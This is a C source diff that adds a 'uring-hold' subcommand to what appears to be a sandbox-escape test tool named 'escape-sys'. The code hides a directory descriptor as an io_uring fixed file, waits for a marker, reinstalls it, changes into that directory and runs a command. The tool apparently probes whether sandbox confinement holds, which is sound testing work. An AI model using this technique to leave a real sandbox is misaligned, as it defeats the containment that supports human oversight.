@@ -69,6 +69,7 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+#include <linux/io_uring.h>
 
 #ifndef AF_VSOCK
 #define AF_VSOCK 40
@@ -594,6 +595,70 @@ static int fd_hop(char **a)
 	return 127;
 }
 
+/* Sandbox side: a descriptor of a directory kept only as an io_uring fixed
+ * file (registered, then closed), which is in no descriptor table; once
+ * the marker exists it is put back in the table (IORING_OP_FIXED_FD_INSTALL,
+ * Linux 6.8), the process goes there and runs the command. */
+#define URING_OP_FIXED_FD_INSTALL 54
+static int uring_hold(char **a)
+{
+	struct io_uring_params p;
+	struct io_uring_sqe *sqe;
+	struct io_uring_cqe *cqe;
+	struct timespec ts = { 0, 50 * 1000 * 1000 };
+	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head;
+	char *sq, *cq;
+	size_t sq_len, cq_len;
+	int fd = open(a[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC), ring, got;
+
+	memset(&p, 0, sizeof(p));
+	ring = (int)syscall(__NR_io_uring_setup, 4, &p);
+	if (fd < 0 || ring < 0) {
+		perror("escape-sys: uring-hold: setup");
+		return 2;
+	}
+	if (syscall(__NR_io_uring_register, ring, IORING_REGISTER_FILES, &fd, 1) != 0) {
+		perror("escape-sys: uring-hold: register");
+		return 2;
+	}
+	close(fd);
+	while (access(a[1], F_OK) != 0)
+		nanosleep(&ts, NULL);
+	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
+	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
+	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
+	cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
+	sqe = mmap(NULL, p.sq_entries * sizeof(*sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
+		   IORING_OFF_SQES);
+	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) {
+		perror("escape-sys: uring-hold: mmap");
+		return 2;
+	}
+	sq_tail = (unsigned *)(sq + p.sq_off.tail);
+	sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
+	sq_array = (unsigned *)(sq + p.sq_off.array);
+	cq_head = (unsigned *)(cq + p.cq_off.head);
+	memset(&sqe[0], 0, sizeof(sqe[0]));
+	sqe[0].opcode = URING_OP_FIXED_FD_INSTALL;
+	sqe[0].fd = 0;
+	sqe[0].flags = IOSQE_FIXED_FILE;
+	sq_array[*sq_tail & *sq_mask] = 0;
+	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
+	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
+		perror("escape-sys: uring-hold: enter");
+		return 2;
+	}
+	cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (*cq_head & *(unsigned *)(cq + p.cq_off.ring_mask));
+	got = cqe->res;
+	if (got < 0 || fchdir(got) != 0) {
+		fprintf(stderr, "escape-sys: uring-hold: install: %s\n", strerror(got < 0 ? -got : errno));
+		return 2;
+	}
+	execvp(a[2], a + 2);
+	perror("escape-sys: uring-hold: exec");
+	return 127;
+}
+
 int main(int argc, char **argv)
 {
 	pid_t c;
@@ -611,6 +676,8 @@ int main(int argc, char **argv)
 		return argc > 4 ? fork_hop(argv + 2) : 2;
 	if (!strcmp(argv[1], "fd-hop"))
 		return argc > 4 ? fd_hop(argv + 2) : 2;
+	if (!strcmp(argv[1], "uring-hold"))
+		return argc > 4 ? uring_hold(argv + 2) : 2;
 	fflush(stdout);
 	c = fork();
 	if (c < 0) {
